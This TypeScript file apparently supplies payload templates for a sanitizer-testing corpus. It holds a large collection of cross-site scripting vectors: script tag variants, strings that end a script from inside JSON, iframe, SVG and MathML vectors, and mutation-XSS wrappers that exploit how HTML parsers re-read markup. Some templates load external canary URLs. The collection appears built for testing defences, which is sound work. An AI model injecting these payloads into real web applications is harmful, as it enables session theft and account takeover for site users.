/** Scripts, frames, other grammars within HTML, and HTML that changes when it is read a second time. */
import type { Form } from './corpus.ts';

const entities = (text: string) => Array.from(text, (letter) => `&#${letter.codePointAt(0)};`).join('');

const scripts: readonly Form[] = [
  ({ call }) => `<script>${call}</script>`,
  ({ call }) => `<SCRIPT>${call}</SCRIPT >`,
  ({ call }) => `<script/x>${call}</script\n>`,
  ({ call }) => `<script\t>${call}</script foo>`,
  ({ call }) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  ({ call }) => `<<script>${call}//<</script>`,
  ({ call }) => `<script type=module>${call}</script>`,
  ({ call }) => `<script type="text/javascript" nonce="">${call}</script>`,
  ({ call }) => `<script language=jscript>${call}</script>`,
  ({ call }) => `<script><!--\n${call}\n--></script>`,
  ({ call }) => `<script>setTimeout('${call}')</script>`,
  ({ call }) => `<script>Function('${call}')()</script>`,
  ({ call }) => `<script>\`\${${call}}\`</script>`,
  ({ call }) => `<script>import('data:text/javascript,${call}')</script>`,
  ({ call }) => `<script src="data:text/javascript,${call}"></script>`,
  ({ canary }) => `<script src="${canary}.js"></script>`,
  ({ canary }) => `<script src="${canary.replace('https:', '')}.js" async></script>`,
  ({ canary }) => `<script type=module src="${canary}.js"></script>`,
  ({ canary }) => `<script type=importmap>{"imports":{"react":"${canary}.js"}}</script>`,
  ({ canary }) =>
    `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${canary}"]}]}</script>`,
  ({ canary }) => `<script>new Image().src='${canary}'</script>`,
  ({ call, canary }) => `<script>fetch('${canary}');${call}</script>`,
  ({ canary }) => `<script>location='${canary}'</script>`,
  ({ call }) => `<script>new Worker(URL.createObjectURL(new Blob(['']))),${call}</script>`,
  ({ call }) => `<svg><script>${call}</script></svg>`,
  ({ call }) => `<svg><script href="data:text/javascript,${call}"/></svg>`,
  ({ call }) => `<svg><script>${entities(call)}</script></svg>`,
  ({ call }) => `<svg><script><![CDATA[${call}]]></script></svg>`,
  ({ call }) => `<math><script>${call}</script></math>`,
  ({ call }) => `<template><script>${call}</script></template>`,
  ({ call }) => `<div><template shadowrootmode=open><script>${call}</script></template></div>`,
  ({ call }) => `<noscript><script>${call}</script></noscript>`,
  ({ call }) => `<xmp><script>${call}</script></xmp>`,
  ({ call }) => `<!--[if IE]><script>${call}</script><![endif]-->`,
  ({ call }) => `<![CDATA[<script>${call}</script>]]>`,
  ({ call }) => `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${call}</script>`,
];

/** Texts in JSON within a script that would end it. */
const json: readonly Form[] = [
  ({ call }) => `</script><script>${call}</script>`,
  ({ call }) => `</ScRiPt\n><script>${call}</script>`,
  ({ call }) => `<!--<script>${call}</script>`,
  ({ call }) => `<!--<script>--></script><script>${call}</script>`,
  ({ call }) => `"}</script><img src=x: onerror=${call}>`,
  ({ call }) => `\\"};${call};//`,
  ({ call }) => `\u2028${call}\u2029`,
  ({ call }) => `\u2028</script><script>${call}</script>`,
  ({ call }) => `&lt;/script&gt;&lt;script&gt;${call}&lt;/script&gt;`,
  ({ call }) => `\\u003c/script\\u003e<script>${call}</script>`,
  ({ call }) => `\${${call}}`,
  ({ call }) => `{{${call}}}<%=${call}%>#{${call}}[[${call}]]`,
  ({ call }) => `{{constructor.constructor('${call}')()}}`,
];

const frames: readonly Form[] = [
  ({ call }) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  ({ call }) => `<iframe srcdoc="${entities(`<img src=x: onerror=parent.${call}>`)}"></iframe>`,
  ({ call }) =>
    `<iframe srcdoc='<svg onload=top.${call}>' sandbox="allow-scripts allow-same-origin"></iframe>`,
  ({ call }) => `<iframe src="javascript:parent.${call}"></iframe>`,
  ({ call }) => `<iframe src="javascript:'<script>parent.${call}<\\/script>'"></iframe>`,
  ({ call }) => `<iframe src="/" onload="${call}"></iframe>`,
  ({ call }) => `<frameset><frame src="javascript:parent.${call}"></frameset>`,
  ({ call }) => `<object data="javascript:parent.${call}"></object>`,
  ({ call }) => `<object type=text/html data="data:text/html,<script>parent.${call}</script>"></object>`,
  ({ call }) => `<embed src="javascript:parent.${call}">`,
  ({ call }) =>
    `<portal src="javascript:${call}"></portal><fencedframe src="javascript:${call}"></fencedframe>`,
  ({ canary }) => `<iframe src="${canary}"></iframe>`,
  ({ canary }) =>
    `<object data="${canary}"></object><embed src="${canary}"><applet code=x codebase="${canary}">`,
  ({ canary }) => `<iframe srcdoc="<img src=${canary}>"></iframe>`,
];

const svg: readonly Form[] = [
  ({ call }) => `<svg><a href="javascript:${call}"><text y=20>go</text></a></svg>`,
  ({ call }) =>
    `<svg><a><animate attributeName=href values="javascript:${call}"/><text y=20>go</text></a></svg>`,
  ({ call }) =>
    `<svg><a><set attributeName=xlink:href to="javascript:${call}"/><text y=20>go</text></a></svg>`,
  ({ call }) =>
    `<svg><animate xlink:href=#x attributeName=href to="javascript:${call}"/><a id=x><text y=20>go</text></a></svg>`,
  ({ call }) => `<svg><foreignObject><img src=x: onerror=${call}></foreignObject></svg>`,
  ({ call }) => `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>"></foreignObject></svg>`,
  ({ call }) => `<svg><desc><img src=x: onerror=${call}></desc></svg>`,
  ({ call }) => `<svg><title><svg onload=${call}></title></svg>`,
  ({ call }) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x:' onerror='${call}'/></svg>#x"/></svg>`,
  ({ call }) =>
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${call}</handler></svg>`,
  ({ call }) => `<svg><discard onbegin=${call}></svg>`,
  ({ call }) => `<svg><g onload=${call}><path d="M0 0h9v9z" onmouseover=${call}></g></svg>`,
  ({ canary }) => `<svg><image href="${canary}" width=9 height=9 /></svg>`,
  ({ canary }) => `<svg><feImage href="${canary}"/><pattern id=p><image href="${canary}"/></pattern></svg>`,
  ({ canary }) => `<svg><rect fill="url(${canary})" filter="url(${canary}#f)" width=9 height=9 /></svg>`,
];

const mathml: readonly Form[] = [
  ({ call }) => `<math href="javascript:${call}">go</math>`,
  ({ call }) => `<math><mtext><img src=x: onerror=${call}></mtext></math>`,
  ({ call }) =>
    `<math><annotation-xml encoding="text/html"><img src=x: onerror=${call}></annotation-xml></math>`,
  ({ call }) =>
    `<math><annotation-xml encoding="application/xhtml+xml"><svg onload=${call}></annotation-xml></math>`,
  ({ call }) => `<math><mi xlink:href="javascript:${call}">go</mi></math>`,
  ({ call }) => `<math><semantics><mglyph><script>${call}</script></mglyph></semantics></math>`,
  ({ call }) => `<math><maction actiontype="statusline" onclick=${call}>go</maction></math>`,
];

/** Elements that a parser puts elsewhere the second time; in each place something that runs when it comes out. */
const places: readonly ((html: string) => string)[] = [
  (html) => `<math><mtext><table><mglyph><style><!--</style>${html}`,
  (html) => `<math><mtext><table><mglyph><style><math>${html}</style>`,
  (html) => `<form><math><mtext></form><form><mglyph><style></math>${html}`,
  (html) => `<svg></p><style><a id="</style>${html}">`,
  (html) => `<svg></br><style><g title="</style>${html}">`,
  (html) => `<svg><style><!--</style>${html}-->`,
  (html) => `<svg><p><style><a id="</style>${html}"></p>`,
  (html) => `<math><annotation-xml encoding="text/html"><style><a title="</style>${html}">`,
  (html) => `<math><mi><mglyph><svg><mtext><style><path id="</style>${html}">`,
  (html) => `<noscript><p title="</noscript>${html}">`,
  (html) => `<noembed><p title="</noembed>${html}">`,
  (html) => `<noframes><p title="</noframes>${html}">`,
  (html) => `<iframe><p title="</iframe>${html}">`,
  (html) => `<xmp><p title="</xmp>${html}">`,
  (html) => `<textarea><p title="</textarea>${html}">`,
  (html) => `<title><p title="</title>${html}">`,
  (html) => `<style><p title="</style>${html}">`,
  (html) => `<template><p title="</template>${html}">`,
  (html) => `<select><template><style><!--</style><a rel="--></style></template></select>${html}">`,
  (html) => `<select><style></select><svg><style>${html}`,
  (html) => `<select><option><style></option></select>${html}</style>`,
  (html) => `<table><caption><svg><title><style></caption></table>${html}</style></title></svg>`,
  (html) => `<table><tr><td><svg><desc><table><td>${html}`,
  (html) => `<form id=a><div></form><form id=b>${html}`,
  (html) => `<a><table><a>${html}</table></a>`,
  (html) => `<b><p></b>${html}`,
  (html) => `<p><svg><p>${html}`,
  (html) => `<!--><p title="-->${html}">`,
  (html) => `<!--!><p title="--!>${html}">`,
  (html) => `<!-- --!>${html}-->`,
  (html) => `<!--><!---->${html}-->`,
  (html) => `<?xml-stylesheet ><p title="?>${html}"?>`,
  (html) => `<![CDATA[ ><p title="]]>${html}"]]>`,
  (html) => `<svg><![CDATA[><p title="]]>${html}"]]></svg>`,
  (html) => `<plaintext>${html}`,
  (html) => `<listing>&lt;${html.slice(1)}</listing>`,
  (html) => `<pre>&lt;${html.slice(1)}</pre>`,
  (html) => html.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (html) => html.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (html) => html.replaceAll('<', '＜').replaceAll('>', '＞'),
  (html) => html.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (html) => html.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (html) => `<p title="&quot;>${html}">`,
  (html) => `<p title=\`>${html}\`>`,
  (html) => `<a href="/" title='"'>${html}`,
  (html) => `${'<div>'.repeat(506)}<table><svg><style><!--</style>${html}`,
  (html) => `${'<b>'.repeat(513)}${html}`,
  (html) => `<x-own><slot>${html}</slot></x-own>`,
];
const seeds: readonly Form[] = [
  ({ call }) => `<img src=x: onerror=${call}>`,
  ({ call }) => `<svg onload=${call}></svg>`,
  ({ call }) => `<script>${call}</script>`,
  ({ call }) => `<iframe srcdoc='<script>parent.${call}</script>'></iframe>`,
];

export const markupPayloads: Record<string, readonly Form[]> = {
  script: scripts,
  json,
  frame: frames,
  svg,
  mathml,
  mutation: places.flatMap((place) =>
    seeds.map(
      (seed): Form =>
        (voice) =>
          place(seed(voice)),
    ),
  ),
};
